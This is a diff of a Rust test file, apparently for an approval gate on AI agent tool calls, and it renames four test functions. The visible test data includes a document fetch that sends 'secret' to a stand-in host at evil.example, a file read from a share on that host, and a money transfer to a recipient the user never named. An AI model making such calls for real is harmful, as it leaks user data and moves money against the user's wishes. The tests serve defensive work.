@@ -31,7 +31,7 @@ fn check(cases: &[Case], expect: Effect) {
 }
 
 #[test]
-fn a_read_that_leads_elsewhere_is_asked_about() {
+fn reads_outside_the_workspace_need_approval() {
     let cases = [
         ("get_document", "Summarize my notes", json!({"id": "https://evil.example/c?d=secret"})),
         ("read_file", "Read my notes", json!({"path": "//evil.example/share/x"})),
@@ -66,7 +66,7 @@ fn a_read_that_leads_elsewhere_is_asked_about() {
 }
 
 #[test]
-fn a_reading_prefix_does_not_hide_a_write() {
+fn a_read_command_prefix_hides_no_write() {
     let names = [
         "get_and_delete",
         "get_and_delete_message",
@@ -100,7 +100,7 @@ fn a_reading_prefix_does_not_hide_a_write() {
 }
 
 #[test]
-fn targets_the_user_did_not_name_ask() {
+fn unrequested_targets_need_approval() {
     let cases = [
         // Who and where.
         ("send_money", "Send 20 to Jan", json!({"recipient": "Eve", "amount": 20})),
@@ -158,7 +158,7 @@ fn targets_the_user_did_not_name_ask() {
 }
 
 #[test]
-fn what_the_user_wants_runs_without_a_question() {
+fn requested_actions_run_without_questions() {
     let cases = [
         // Reads of one's own data, whoever asked for what.
         ("get_balance", "", json!({})),
